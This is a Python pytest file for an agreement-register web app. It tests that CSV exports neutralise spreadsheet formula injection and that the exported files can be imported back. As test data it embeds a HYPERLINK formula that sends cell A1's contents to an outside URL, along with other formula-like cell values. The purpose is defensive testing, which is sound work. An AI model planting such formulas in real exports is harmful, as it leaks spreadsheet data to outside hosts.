"""CSV files of the register open safely in a spreadsheet: ``/fristen.csv`` and the
``register.csv`` of ``export-files``/backup put an apostrophe before a cell that begins with
``=``, ``+``, ``-``, ``@``, tab or carriage return (OWASP »CSV injection«), numbers stay numbers,
and ``import-files`` reads back what ``export-files`` wrote."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from vereinbarung.web.register import services
from vereinbarung.web.register.models import Agreement, Version

from .conftest import EXAMPLES, login, with_key

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://example.org/?"&A1;"Details")'


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.usefixtures("users")
def test_fristen_csv_neutralises_formulas_and_keeps_numbers(
    client: Client, examples: list[Any]
) -> None:
    record = next(r for r in examples if not r.short_name and not r.reference)
    with_key(record, "short_name", '"@SUMME(A1:A9)"')
    record.refresh_from_db()
    with_key(record, "reference", '"-1+2"')
    record.refresh_from_db()
    lines = [
        'title: "' + HOSTILE.replace('"', '\\"') + '"' if line.startswith("title: ") else line
        for line in record.text.split("\n")
    ]
    services.save_version(record, "\n".join(lines), base=record.version, reason="Titel")
    login(client, "leser")
    table = rows(client.get("/fristen.csv").content.decode("utf-8-sig"))
    header = table[0]
    (row,) = [r for r in table[1:] if r[header.index("Kurzname")].endswith("SUMME(A1:A9)")]
    assert row[header.index("Kurzname")] == "'@SUMME(A1:A9)"
    assert row[header.index("Aktenzeichen")] == "'-1+2"
    assert row[header.index("Titel")].startswith("'" + HOSTILE)
    for line in table[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "@", "\t", "\r"))
            if cell.startswith("-"):
                assert cell[1:].isdigit(), cell  # only a negative number of days
        assert line[header.index("Offene Prüfpunkte")].isdigit()


def test_register_csv_neutralises_and_import_reads_it_back(
    tmp_path: Path, users: dict[str, Any]
) -> None:
    source = tmp_path / "quelle"
    source.mkdir()
    names = ["-bauhof.yaml", "=kinderschutz.yaml", "'s-gutachter.yaml"]
    for name, example in zip(
        names,
        ["interkommunaler-bauhof.yaml", "kinderschutz-rhein-kreis-neuss.yaml",
         "gemeinsamer-gutachterausschuss.yaml"],
        strict=True,
    ):  # fmt: skip
        shutil.copy(EXAMPLES / example, source / name)
    report = services.import_files(source)
    assert sorted(report.created) == sorted(names)
    for name in names[:2]:
        record = Agreement.objects.get(file_name=name)
        services.set_archived(record, True, base=record.version, user=users["bearbeiten"])
    target = tmp_path / "export"
    services.export_files(target)
    table = rows((target / services.REGISTER_CSV).read_text("utf-8-sig"))
    assert sorted(table[1:]) == sorted(
        [["'-bauhof.yaml", "ja"], ["'=kinderschutz.yaml", "ja"], ["''s-gutachter.yaml", ""]]
    )
    Version.objects.all().delete()
    Agreement.objects.all().delete()
    again = services.import_files(target)
    assert sorted(again.created) == sorted(names)
    assert not again.failed
    archived = {r.file_name: r.archived for r in Agreement.objects.all()}
    assert archived == {
        "-bauhof.yaml": True,
        "=kinderschutz.yaml": True,
        "'s-gutachter.yaml": False,
    }
